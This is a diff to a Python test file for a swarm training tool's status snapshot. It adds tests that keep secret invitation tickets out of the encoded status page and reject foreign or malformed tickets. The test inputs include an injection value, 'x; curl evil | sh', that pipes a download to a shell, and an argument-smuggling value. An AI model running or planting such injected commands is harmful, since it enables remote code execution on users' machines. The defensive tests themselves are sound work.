@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import math
 
+import msgspec
 import pytest
 
 from peer.observe.snapshot import (
@@ -18,6 +19,8 @@ from peer.observe.snapshot import (
     is_well,
     thinned,
 )
+from swarm.identity import PeerId
+from swarm.ticket import Address, Entry, Ticket
 
 ROW = PeerRow(
     peer="aaaa",
@@ -33,6 +36,10 @@ ROW = PeerRow(
     loss=3.25,
     is_me=True,
 )
+ENTRY = Entry(PeerId("a" * 52), Address("127.0.0.1", 4000))
+TICKET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,)).pack()
+SECRET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,), bytes(range(16))).pack()
+OTHER = Ticket(bytes.fromhex("0f" * 32), (ENTRY,)).pack()
 FULL = Snapshot(
     run="f0f0f0f0",
     run_name="tiny",
@@ -76,7 +83,7 @@ FULL = Snapshot(
     peers=(ROW,),
     events=(LoggedEvent(time=10.0, severity="info", text="hello"),),
     sample="def f",
-    ticket="swarm1abc",
+    ticket=TICKET,
     checkpoint="round-3",
 )
 JSON = (
@@ -92,13 +99,27 @@ JSON = (
     b'"peers":[{"peer":"aaaa","name":"otter-7f3a","state":"training","device":"cpu x 4",'
     b'"round":3,"tokens_per_second":1900.0,"up":10.0,"down":20.0,"share":0.5,"seen_seconds":2.0,"loss":3.25,'
     b'"is_me":true}],"events":[{"time":10.0,"severity":"info","text":"hello"}],"sample":"def f",'
-    b'"ticket":"swarm1abc","checkpoint":"round-3"}'
+    b'"ticket":"' + TICKET.encode() + b'","checkpoint":"round-3"}'
 )
 
 
 def test_the_json_has_these_bytes() -> None:
     assert encode(FULL) == JSON
     assert decode(JSON) == FULL
+
+
+def test_the_ticket_of_a_run_by_invitation_never_leaves_the_process() -> None:
+    """Every user of the computer can read the status page, and the ticket holds the secret."""
+    shown = encode(msgspec.structs.replace(FULL, ticket=SECRET))
+    assert SECRET.encode() not in shown
+    assert decode(shown).ticket == ""
+
+
+@pytest.mark.parametrize("text", [OTHER, SECRET, "x; curl evil | sh", TICKET + " --home /", ""])
+def test_a_ticket_from_another_computer_is_shown_only_if_it_is_one_of_that_run(text: str) -> None:
+    """A person is asked to copy it into a command line."""
+    raw = JSON.replace(TICKET.encode(), msgspec.json.encode(text)[1:-1])
+    assert decode(raw).ticket == ""
 
 
 @pytest.mark.parametrize(
